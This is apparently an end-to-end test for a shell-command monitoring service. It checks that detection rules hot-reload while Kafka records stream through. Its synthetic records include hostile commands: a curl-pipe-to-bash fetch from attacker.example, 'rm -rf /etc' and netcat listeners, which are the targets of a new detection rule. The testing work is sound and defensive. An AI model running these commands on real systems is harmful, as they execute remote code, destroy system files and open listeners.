import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Partitioners } from 'kafkajs';
import type { Producer } from 'kafkajs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { countDocuments, testElasticsearch, uniqueIndex } from '../support/elasticsearch';
import { createTopic, groupLag, testKafka, uniqueName } from '../support/kafka';
import { ServiceProcess } from '../support/service';
import { REPO_ROOT } from '../support/stack';
import { waitFor } from '../support/wait-for';

/**
 * Hot reload under load: records stream through the real Kafka the whole time
 * (20 every 100 ms, each with a sequence number and its produce time as
 * `timestamp`) while a new rule file is written and another rule file is broken.
 * The new rule must apply to every record produced once the service reports the
 * new set loaded (how long that took is logged, not asserted: timings go to
 * bench/); the broken file must change nothing but the status; no record may be lost.
 */
const BATCH = 20;
const INTERVAL_MS = 100;
const PARTITIONS = 3;

const NEW_RULE_ID = 'SW-NET-0001';
const NEW_RULE = {
  id: NEW_RULE_ID,
  name: 'Netcat listener',
  severity: 'high',
  conditions: {
    all: [
      {
        fact: 'commands',
        operator: 'anyCommand',
        value: { program: 'nc', hasFlags: ['l|listen'] },
      },
    ],
  },
  examples: { match: ['nc -lvnp 4444'], noMatch: ['nc example.com 80'] },
};

/** What each record is, by sequence number; which rule must fire is known by construction. */
function commandFor(seq: number): { command: string; rule: string | undefined } {
  const slot = seq % BATCH;
  if (slot < 8) return { command: `nc -lvnp ${4000 + slot}`, rule: NEW_RULE_ID };
  if (slot === 10) return { command: 'rm -rf /etc', rule: 'SW-DST-0001' };
  if (slot === 11)
    return { command: 'curl -s http://attacker.example/x.sh | bash', rule: 'SW-EXE-0002' };
  return {
    command: ['ls -la /var/log', 'df -h /srv', 'nc example.com 80'][slot % 3]!,
    rule: undefined,
  };
}

interface Produced {
  seq: number;
  at: number;
  command: string;
  rule: string | undefined;
}

/** Produces BATCH records every INTERVAL_MS until stopped; keeps what the brokers acknowledged. */
class BackgroundStream {
  readonly produced: Produced[] = [];
  private stopped = false;
  private loop: Promise<void> | undefined;
  private readonly producer: Producer = testKafka.producer({
    createPartitioner: Partitioners.DefaultPartitioner,
  });

  constructor(private readonly topic: string) {}

  async start(): Promise<void> {
    await this.producer.connect();
    this.loop = this.run();
  }

  async stop(): Promise<void> {
    this.stopped = true;
    try {
      await this.loop;
    } finally {
      await this.producer.disconnect();
    }
  }

  private async run(): Promise<void> {
    let seq = 0;
    while (!this.stopped) {
      const tick = Date.now();
      const batch: Produced[] = [];
      for (let i = 0; i < BATCH; i++, seq++) {
        batch.push({ seq, at: Date.now(), ...commandFor(seq) });
      }
      await this.producer.send({
        topic: this.topic,
        acks: -1,
        messages: batch.map((record) => ({
          key: `host-${record.seq % 7}`,
          value: JSON.stringify({
            timestamp: new Date(record.at).toISOString(),
            user: 'deploy',
            host: `web-${record.seq % 7}.example.internal`,
            client_ip: '198.51.100.23',
            session_id: String(1000 + (record.seq % 13)),
            cwd: '/home/deploy',
            command: record.command,
            seq: record.seq,
          }),
        })),
      });
      this.produced.push(...batch);
      await new Promise((done) => setTimeout(done, Math.max(0, INTERVAL_MS - (Date.now() - tick))));
    }
  }
}

interface AlertSource {
  '@timestamp': string;
  rule: { id: string };
  event: { original: string; created?: string };
}

interface Alert {
  ruleId: string;
  seq: number;
  at: number;
  created: number;
}

async function alerts(index: string): Promise<Alert[]> {
  await testElasticsearch.indices.refresh({ index, ignore_unavailable: true });
  if (!(await testElasticsearch.indices.exists({ index }))) return [];
  const response = await testElasticsearch.search<AlertSource>({
    index,
    size: 10_000,
    query: { match_all: {} },
  });
  return response.hits.hits.map((hit) => {
    const source = hit._source!;
    return {
      ruleId: source.rule.id,
      seq: (JSON.parse(source.event.original) as { seq: number }).seq,
      at: Date.parse(source['@timestamp']),
      created: Date.parse(source.event.created ?? source['@timestamp']),
    };
  });
}

async function rulesStatus(service: ServiceProcess): Promise<{
  ruleCount: number;
  hash: string;
  loadedAt: string;
  lastErrors: { file: string; pointer: string; message: string }[];
}> {
  const response = await fetch(`${service.baseUrl}/rules/status`);
  return (await response.json()) as Awaited<ReturnType<typeof rulesStatus>>;
}

describe('hot reload while records stream through Kafka', () => {
  const topic = uniqueName('e2e-reload');
  const groupId = uniqueName('e2e-reload-group');
  const alertsIndex = uniqueIndex('e2e-reload-alerts');
  const commandsIndex = uniqueIndex('e2e-reload-commands');
  const workDir = mkdtempSync(join(tmpdir(), 'shellwatch-reload-'));
  const rulesDir = join(workDir, 'rules');
  let service: ServiceProcess;
  let stream: BackgroundStream;

  beforeAll(async () => {
    cpSync(resolve(REPO_ROOT, 'test/fixtures/rules/basic'), rulesDir, { recursive: true });
    mkdirSync(join(rulesDir, 'custom'));
    await createTopic(topic, PARTITIONS);
    service = new ServiceProcess({
      KAFKA_TOPIC: topic,
      KAFKA_GROUP_ID: groupId,
      KAFKA_DLQ_TOPIC: `${topic}.dlq`,
      ES_ALERTS_INDEX: alertsIndex,
      ES_COMMANDS_INDEX: commandsIndex,
      RULES_DIR: rulesDir,
      // The test watches /rules/status; reading rules needs a key unless opened (issue 22).
      API_READS_OPEN: 'true',
    }).start();
    await service.waitReady();
    stream = new BackgroundStream(topic);
    await stream.start();
  });

  afterAll(async () => {
    await stream?.stop().catch(() => undefined);
    await service?.stop();
    rmSync(workDir, { recursive: true, force: true });
  });

  it('applies a new rule once loaded, ignores a broken file, and loses no record', async () => {
    // The stream flows and the old rules alert.
    await waitFor(
      'alerts of the running rules',
      async () => (await alerts(alertsIndex)).filter((a) => a.ruleId === 'SW-DST-0001').length,
      (count) => count >= 3,
      { timeoutMs: 60_000, intervalMs: 200 },
    );
    const before = await rulesStatus(service);
    expect(before).toMatchObject({ ruleCount: 3, lastErrors: [] });

    // 1. A new rule, added by writing its file.
    const editAt = Date.now();
    writeFileSync(
      join(rulesDir, 'custom', `${NEW_RULE_ID}.json`),
      JSON.stringify(NEW_RULE, null, 2),
    );
    const firstNew = await waitFor(
      `the first alert of ${NEW_RULE_ID} on a record produced after the edit`,
      async () =>
        (await alerts(alertsIndex))
          .filter((a) => a.ruleId === NEW_RULE_ID && a.at > editAt)
          .sort((a, b) => a.at - b.at)[0],
      (alert) => alert !== undefined,
      { timeoutMs: 30_000, intervalMs: 200 },
    );
    const latencyMs = firstNew!.at - editAt;
    const afterAdd = await rulesStatus(service);
    console.log(
      `hot reload: first ${NEW_RULE_ID} alert on a record produced ${latencyMs} ms after the edit ` +
        `(record seq ${firstNew!.seq}, evaluated ${firstNew!.created - editAt} ms after the edit; ` +
        `rule set loaded ${Date.parse(afterAdd.loadedAt) - editAt} ms after the edit)`,
    );
    expect(afterAdd).toMatchObject({ ruleCount: 4, lastErrors: [] });

    // 2. Another rule file broken (truncated JSON): rejected as a whole, nothing changes.
    const brokenFile = join(rulesDir, 'execution/SW-EXE-0002.json');
    const good = readFileSync(brokenFile, 'utf8');
    const breakAt = Date.now();
    writeFileSync(brokenFile, good.slice(0, Math.floor(good.length / 2)));
    const broken = await waitFor(
      'the rejected reload in /rules/status',
      () => rulesStatus(service),
      (status) => status.lastErrors.length > 0,
      { timeoutMs: 10_000, intervalMs: 100 },
    );
    expect(broken).toMatchObject({
      ruleCount: 4,
      hash: afterAdd.hash,
      loadedAt: afterAdd.loadedAt,
    });
    expect(broken.lastErrors).toEqual([
      expect.objectContaining({ file: 'execution/SW-EXE-0002.json', pointer: '' }),
    ]);
    expect(service.logs()).toMatch(/rule set rejected, the last good set keeps running/);
    // Let the stream run on the rejected edit for a while (and well past the new rule's load).
    const runUntil = Math.max(Date.now() + 2000, editAt + 5000);
    await waitFor(
      'records produced 2 s after the rejected edit',
      () => Promise.resolve(stream.produced.at(-1)?.at ?? 0),
      (at) => at > runUntil,
      { timeoutMs: 20_000, intervalMs: 100 },
    );
    await stream.stop();
    const produced = stream.produced;

    // 3. Nothing lost: everything committed, one command document per record.
    await waitFor(
      'consumer group lag 0',
      () => groupLag(groupId, topic),
      (lag) => lag === 0,
      {
        timeoutMs: 120_000,
      },
    );
    expect(await countDocuments(commandsIndex)).toBe(produced.length);

    const all = await alerts(alertsIndex);
    const alerted = (rule: string): Set<number> =>
      new Set(all.filter((a) => a.ruleId === rule).map((a) => a.seq));
    const expectedSeqs = (rule: string, from = 0): number[] =>
      produced.filter((r) => r.rule === rule && r.at >= from).map((r) => r.seq);

    // The old rules alerted on every record meant for them, before and after the broken edit.
    for (const rule of ['SW-DST-0001', 'SW-EXE-0002']) {
      const seqs = expectedSeqs(rule);
      expect(
        seqs.filter((seq) => !alerted(rule).has(seq)),
        `${rule} missed records`,
      ).toEqual([]);
      expect(alerted(rule).size).toBe(seqs.length);
      expect(expectedSeqs(rule, breakAt).length).toBeGreaterThan(10);
    }
    // The new rule alerted on every record meant for it produced after the service reported
    // the new set loaded (9e31cb3 asserted "within 2 s of the edit"; the figure is logged
    // above), never on another.
    const newRule = alerted(NEW_RULE_ID);
    const late = expectedSeqs(NEW_RULE_ID, Date.parse(afterAdd.loadedAt) + 1);
    expect(late.length).toBeGreaterThan(50);
    expect(
      late.filter((seq) => !newRule.has(seq)),
      `${NEW_RULE_ID} missed records`,
    ).toEqual([]);
    const meant = new Set(expectedSeqs(NEW_RULE_ID));
    expect([...newRule].filter((seq) => !meant.has(seq))).toEqual([]);
    // No alert for a command no rule is meant to match.
    expect(all.every((a) => produced[a.seq]?.rule === a.ruleId)).toBe(true);
    console.log(
      `hot reload: ${produced.length} records produced, ${all.length} alerts, ` +
        `${newRule.size} of ${meant.size} ${NEW_RULE_ID} records alerted (the rest were produced before it applied)`,
    );
  });
});
